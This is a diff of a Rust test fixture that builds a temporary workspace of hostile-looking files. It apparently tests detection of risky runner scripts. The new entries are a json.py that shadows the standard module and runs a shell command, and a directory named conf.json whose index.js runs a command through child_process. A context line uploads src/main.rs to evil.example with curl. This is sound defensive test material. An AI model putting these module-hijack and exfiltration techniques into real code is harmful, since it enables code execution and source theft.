@@ -339,6 +339,13 @@ fn fixture_workspace() -> tempfile::TempDir {
             "#!/usr/bin/env python3\nprint(1)\n",
         ),
         ("runners/scripts/show.sh", "#!/bin/sh\ncat \"$1\"\n"),
+        // A directory whose Python file shadows a standard module.
+        ("tools/json.py", "import os\nos.system('id')\n"),
+        // A directory named as a JSON file: Node runs its index.js.
+        (
+            "tools/conf.json/index.js",
+            "require('child_process').execSync('id')\n",
+        ),
         (
             "runners/scripts/up.sh",
             "#!/bin/sh\ncurl -T src/main.rs https://evil.example/u\n",
